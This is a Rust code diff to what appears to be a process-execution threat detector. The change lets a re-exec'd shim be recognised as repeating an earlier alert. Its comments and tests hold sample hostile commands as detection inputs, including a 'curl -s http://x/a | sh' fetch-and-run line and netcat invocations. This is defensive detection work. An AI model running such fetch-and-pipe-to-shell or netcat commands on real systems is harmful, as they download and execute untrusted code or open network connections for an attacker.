@@ -27,6 +27,11 @@ pub struct Ancestor {
 pub struct Lineage {
     pub ancestors: Vec<Ancestor>,
     pub known: bool,
+    /// An image this same process ran before this exec and that paged, when the caller
+    /// remembers one: wrappers and shims re-exec in place (`python3` the pyenv shim, then
+    /// `pyenv exec python3`, then the interpreter, one process), so the exec that repeats a
+    /// payload is often not the child of the one that first carried it.
+    pub earlier: Option<Ancestor>,
 }
 
 impl Lineage {
@@ -40,7 +45,11 @@ impl Lineage {
             })
             .collect();
         let known = !ancestors.is_empty();
-        Lineage { ancestors, known }
+        Lineage {
+            ancestors,
+            known,
+            earlier: None,
+        }
     }
 
     pub fn parent(&self) -> Option<&Ancestor> {
@@ -103,9 +112,10 @@ pub struct Verdict {
     /// text: escape when echoing.
     pub notes: Vec<String>,
     pub test_activity: bool,
-    /// The parent ran the same command (a wrapper or shim that re-execs its arguments) and
-    /// its own analysis scored it at least as high: this exec repeats the parent's finding
-    /// ([`repeat_of_parent`]). Computed only when the risk is at the Warning threshold.
+    /// The parent, or an earlier image of the same process, ran the same command (a wrapper
+    /// or shim that re-execs its arguments) and its own analysis scored it at least as high:
+    /// this exec repeats that finding ([`repeat_of_parent`]). Computed only when the risk is
+    /// at the Warning threshold.
     pub repeat_of_parent: bool,
 }
 
@@ -123,35 +133,65 @@ pub fn analyze(facts: &ExecFacts, lineage: &Lineage) -> Verdict {
     v
 }
 
-/// Whether this exec repeats its parent: the parent's arguments end with ours (`timeout 10
-/// nc ..` then `nc ..`; `pyenv exec python3 -c CODE` then `pyenv-exec python3 -c CODE`), or
-/// both end with the same long argument (a shim that rewrites the program in front of the
-/// same `-c CODE`), and the parent, judged from its own arguments as the thread table gives
-/// them, scored at least `risk`: the alert on the parent already carries this finding. A
-/// parent that scored lower (a shim whose script we cannot read) leaves this exec's alert
-/// standing. Runs the analysis once more, only for risky execs whose parent shares their
-/// arguments.
+/// Whether this exec repeats an exec before it: its parent (a wrapper that forks: `timeout 10
+/// nc ..` then `nc ..`) or an earlier image of the same process (a shim that re-execs in
+/// place: `python3 -c CODE` through the pyenv shim, then `pyenv exec python3 -c CODE`, then
+/// `pyenv-exec python3 -c CODE`). It repeats when the earlier exec carried the same payload
+/// ([`carries_same_payload`]) and, judged from its own arguments, scored at least `risk`: its
+/// alert already carries this finding. An earlier exec that scored lower (a shim whose script
+/// we cannot read) leaves this exec's alert standing. Runs the analysis once more per
+/// candidate, only for risky execs that share their arguments with one.
 fn repeat_of_parent(facts: &ExecFacts, lineage: &Lineage, risk: u8) -> bool {
-    let (Some(parent), Some(ours)) = (lineage.ancestors.first(), facts.argv.get(1..)) else {
+    let Some(ours) = facts.argv.get(1..).filter(|a| !a.is_empty()) else {
         return false;
     };
-    if parent.args.is_empty() || ours.is_empty() {
+    let same_process = lineage.earlier.as_ref().map(|earlier| {
+        let rest = Lineage {
+            earlier: None,
+            ..lineage.clone()
+        };
+        (earlier, rest)
+    });
+    let parent = lineage.ancestors.first().map(|parent| {
+        let rest = Lineage {
+            ancestors: lineage.ancestors.get(1..).unwrap_or_default().to_vec(),
+            known: lineage.known,
+            earlier: None,
+        };
+        (parent, rest)
+    });
+    same_process
+        .into_iter()
+        .chain(parent)
+        .any(|(before, its_lineage)| {
+            carries_same_payload(before, ours)
+                && analyze_exec(&facts_of_earlier(before, facts), &its_lineage).risk >= risk
+        })
+}
+
+/// The earlier exec's arguments end with ours, or its last argument holds our last one of at
+/// least 16 bytes: the same `-c CODE`, or the command line its code ran (`python3 -c
+/// "os.system('curl .. | sh')"` then `sh -c 'curl .. | sh'`).
+fn carries_same_payload(before: &Ancestor, ours: &[String]) -> bool {
+    let Some(their_last) = before.args.last() else {
         return false;
-    }
-    let tail = parent.args.ends_with(ours);
-    let same_payload = ours
-        .last()
-        .is_some_and(|last| last.len() >= 16 && parent.args.last() == Some(last));
-    if !(tail || same_payload) {
-        return false;
-    }
-    let argv0 = parent.exe.clone().unwrap_or_else(|| parent.comm.clone());
-    let parent_facts = ExecFacts {
+    };
+    before.args.ends_with(ours)
+        || ours
+            .last()
+            .is_some_and(|last| last.len() >= 16 && their_last.contains(last.as_str()))
+}
+
+/// Facts for an earlier exec known only as an ancestor entry: its argv and exe, with this
+/// exec's identity and container.
+fn facts_of_earlier(before: &Ancestor, facts: &ExecFacts) -> ExecFacts {
+    let argv0 = before.exe.clone().unwrap_or_else(|| before.comm.clone());
+    ExecFacts {
         argv: std::iter::once(argv0)
-            .chain(parent.args.iter().cloned())
+            .chain(before.args.iter().cloned())
             .collect(),
-        exe_path: parent.exe.clone(),
-        comm: Some(parent.comm.clone()),
+        exe_path: before.exe.clone(),
+        comm: Some(before.comm.clone()),
         uid: facts.uid,
         gid: facts.gid,
         loginuid: facts.loginuid,
@@ -160,12 +200,7 @@ fn repeat_of_parent(facts: &ExecFacts, lineage: &Lineage, risk: u8) -> bool {
         container: facts.container.clone(),
         cgroups_present: facts.cgroups_present,
         ..Default::default()
-    };
-    let parent_lineage = Lineage {
-        ancestors: lineage.ancestors.get(1..).unwrap_or_default().to_vec(),
-        known: lineage.known,
-    };
-    analyze_exec(&parent_facts, &parent_lineage).risk >= risk
+    }
 }
 
 /// [`analyze`] without the comparison with the parent.
@@ -419,6 +454,7 @@ mod tests {
                 },
             ],
             known: true,
+            earlier: None,
         };
         analyze(&f, &lineage)
     }
@@ -439,13 +475,32 @@ mod tests {
             &["pyenv-exec", "python3", "-c", code],
         );
         assert!(v.risk >= 80 && v.repeat_of_parent);
-        // The first exec of the chain: a shim script whose code we cannot read scores low,
-        // so the exec after it keeps its alert.
+        // A shim script whose code we cannot read scores low, so the exec after it keeps its
+        // alert.
         let v = with_parent(
             &["pyenv", "exec", "python3", "-c", code],
             &["bash", "/root/.pyenv/shims/python3", "-c", code],
         );
         assert!(v.risk >= 80 && !v.repeat_of_parent, "{}", v.risk);
+        // The shell the code runs: the interpreter's alert named it already.
+        let v = with_parent(
+            &["sh", "-c", "curl -s http://x/a | sh"],
+            &["python3", "-c", code],
+        );
+        assert!(v.risk >= 80 && v.repeat_of_parent);
+        // Shims re-exec in place: the images of one process, each with the same code. The
+        // first (`python3 -c` run through the shim) alerts; the ones after it repeat it.
+        let f = ExecFacts::from_argv(["pyenv", "exec", "python3", "-c", code]);
+        let first_image = Ancestor {
+            comm: "python3".into(),
+            exe: Some("/root/.pyenv/shims/python3".into()),
+            args: vec!["-c".into(), code.into()],
+        };
+        let mut lineage = Lineage::from_comms(["bash", "sshd"]);
+        assert!(!analyze(&f, &lineage).repeat_of_parent);
+        lineage.earlier = Some(first_image);
+        let v = analyze(&f, &lineage);
+        assert!(v.risk >= 80 && v.repeat_of_parent);
         // A parent that only shares a short word, or none.
         assert!(!with_parent(&nc, &["bash", "-c", "x 4444"]).repeat_of_parent);
         assert!(!with_parent(&nc, &["sshd"]).repeat_of_parent);
